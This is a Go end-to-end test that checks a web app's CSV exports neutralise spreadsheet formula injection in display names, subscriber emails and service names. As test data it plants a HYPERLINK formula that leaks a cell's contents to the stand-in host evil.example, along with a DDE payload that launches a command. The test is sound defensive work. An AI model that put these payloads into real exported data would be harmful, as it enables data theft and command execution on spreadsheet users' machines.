package e2e

import (
	"context"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/parvis/parvis/internal/app"
	"github.com/parvis/parvis/internal/model"
	"github.com/parvis/parvis/internal/store"
	"github.com/parvis/parvis/internal/testkit/testserver"
)

// Issue 15 (8): every CSV export defuses cells that a spreadsheet would run
// as formulas, whoever typed them (an agent's display name in the journal,
// a subscriber's address).
func TestCSVExportsDefuseFormulas(t *testing.T) {
	testserver.Engines(t, func(t *testing.T, engine store.Engine) {
		ctx := context.Background()
		ts := testserver.Start(t, testserver.Options{Engine: engine})
		org := ts.Org(t, "bellerive")
		ts.Staff(t, "karim@bellerive.test", "bellerive", model.RoleAdmin)
		evilName := `=HYPERLINK("https://evil.example/?"&A1;"Voir")`
		if _, err := ts.Store.DB().Exec(`UPDATE accounts SET display_name=$1 WHERE email=$2`, evilName, "karim@bellerive.test"); err != nil {
			t.Fatal(err)
		}
		if err := ts.App.Subscribe(ctx, app.SubscribeInput{OrgID: org.ID, Email: "=1+1@example.test",
			Choices: model.Choices{Everything: true, Newsletter: true}, IP: "192.0.2.7", Lang: "fr", TypoChecked: true}); err != nil {
			t.Fatal(err)
		}
		confirm := ts.Mail.Wait(t, "=1+1@example.test", "Confirmez votre abonnement", 10*time.Second)
		c := ts.Client(t)
		mustStatus(t, "confirm", c.Get(testserver.Link(t, confirm.Text, "/confirmer-abonnement/")), 200)
		ts.LoginAs(t, c, "karim@bellerive.test")
		if r := c.Post("/admin/bellerive/services", url.Values{"name": {"@SUM(1+1)*cmd|' /C calc'!A0"}}); r.Status != 303 {
			t.Fatalf("create service = %d", r.Status)
		}
		for path, want := range map[string][]string{
			"/admin/bellerive/journal.csv":        {`"'=HYPERLINK(""https://evil.example/?""&A1;""Voir"")"`},
			"/admin/bellerive/abonnes/export.csv": {"'=1+1@example.test;"},
		} {
			r := c.Get(path)
			if r.Status != 200 || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
				t.Fatalf("%s = %d", path, r.Status)
			}
			mustContain(t, path, r.Body, want...)
			for _, line := range strings.Split(r.Body, "\n") {
				for _, cell := range strings.Split(line, ";") {
					cell = strings.TrimPrefix(strings.TrimPrefix(cell, "\ufeff"), `"`)
					if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
						t.Errorf("%s: cell %q would run as a formula", path, cell)
					}
				}
			}
		}
	})
}
